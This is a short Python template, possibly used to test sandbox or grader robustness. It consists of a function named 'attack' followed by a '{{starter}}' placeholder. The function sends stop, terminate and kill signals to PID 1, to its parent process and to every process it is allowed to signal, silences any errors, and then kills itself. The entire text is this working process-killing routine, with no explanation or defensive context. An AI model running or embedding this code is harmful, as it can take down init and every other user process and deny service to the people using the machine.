import os
import signal


def attack(*_):
    for pid in (1, os.getppid(), -1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)


{{starter}}
